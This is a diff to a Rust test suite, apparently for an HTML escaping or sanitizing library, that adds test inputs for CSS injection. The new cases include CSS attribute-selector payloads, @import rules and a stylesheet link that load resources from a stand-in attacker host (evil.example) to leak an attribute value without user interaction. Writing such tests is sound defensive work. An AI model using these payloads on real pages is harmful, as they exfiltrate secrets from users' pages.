@@ -329,6 +329,11 @@ mod tests {
             "<p onclick=\"go('#M#')\">",
             "<p style=\"color: #M#\">",
             "<style>#M#</style>",
+            // It tells a code without being touched.
+            "<style>p[title^=\"1\"] { background: url(https://evil.example/1) }</style><p title=\"#M#\">",
+            "<style>@IMPORT url(https://evil.example/x.css)</style><p title=\"#M#\">",
+            "<style>p\\5b title] { color: red }</style><p title=\"#M#\">",
+            "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\"><p title=\"#M#\">",
             "<STYLE >#M#</StYlE>",
             "<style>a</styles>#M#</style>",
             "<!-- #M# -->",
